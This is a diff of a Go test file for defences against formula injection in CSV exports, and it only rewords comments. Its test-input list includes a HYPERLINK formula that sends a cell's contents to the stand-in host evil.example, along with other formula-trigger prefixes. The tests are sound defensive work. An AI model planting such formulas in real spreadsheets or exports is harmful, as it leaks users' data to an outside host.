@@ -10,7 +10,7 @@ import (
 	"pgregory.net/rapid"
 )
 
-// formulas are what a spreadsheet must not run, wherever they stand in a line.
+// formulas are texts that a spreadsheet must not run, wherever they are in a line.
 func formulas() []string {
 	return []string{
 		`=HYPERLINK("https://evil.example/?"&A1,"Ada")`, "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\tx", "\rx",
@@ -20,12 +20,12 @@ func formulas() []string {
 	}
 }
 
-// opened is a line as programs would see it that split at the separator, with their cells
-// freed of the white space and quotes that some take away.
+// opened returns the cells of a line as programs see them that split at the separator, without the white space and
+// quotes that some of them remove.
 func opened(t *testing.T, line, separator string) []string {
 	t.Helper()
 	var cells []string
-	if separator == "," { // as it is meant
+	if separator == "," { // the separator of our files
 		reader := csv.NewReader(strings.NewReader(line))
 		fields, err := reader.Read()
 		if err != nil {
@@ -77,14 +77,14 @@ func TestAttack19FormulasInCSV(t *testing.T) {
 			_, line, _ := strings.Cut(out.String(), "\n")
 			wantNoFormula(t, line)
 			if strings.ContainsAny(text, "\r\n") {
-				continue // neither sign-up nor import takes it
+				continue // neither sign-up nor import accepts it
 			}
 			wantRecords(t, read(t, out.String(), CSV), any(u))
 		}
 	}
 }
 
-// TestHarmlessCells: an apostrophe that an export would not have put is the owner's.
+// TestHarmlessCells: an apostrophe that an export would not have added is the owner's.
 func TestHarmlessCells(t *testing.T) {
 	t.Parallel()
 	for _, text := range []string{
@@ -98,7 +98,7 @@ func TestHarmlessCells(t *testing.T) {
 			t.Errorf("%q is read as %q", text, got)
 		}
 	}
-	// What people write by hand means what a spreadsheet shows.
+	// A cell that people write by hand means the same as in a spreadsheet.
 	if got := arm("'=1"); got != "=1" {
 		t.Errorf("%q", got)
 	}
